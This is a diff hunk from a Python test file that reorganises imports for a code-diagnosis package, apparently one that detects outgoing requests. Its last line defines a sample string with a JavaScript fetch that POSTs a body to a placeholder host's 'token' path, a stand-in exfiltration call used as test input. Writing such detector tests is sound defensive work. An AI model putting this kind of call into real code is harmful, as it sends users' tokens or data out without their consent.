@@ -7,9 +7,9 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from tests.laws import examples, for_each
 
-from sickbay.doctor.code import Meter, budget, requests_in, settings_in
-from sickbay.doctor.code.budget import BudgetSpent
-from sickbay.doctor.code.values import CHARACTERS_OF_A_TEXT, PAIRS_OF_FIELDS
+from sickbay.doctor.code import values as budget
+from sickbay.doctor.code.find import requests_in, settings_in
+from sickbay.doctor.code.values import CHARACTERS_OF_A_TEXT, PAIRS_OF_FIELDS, BudgetSpent, Meter
 from sickbay.doctor.text import diagnose_text
 
 SEND = 'fetch("https://a.example/token", {method: "POST", body: BODY});\n'
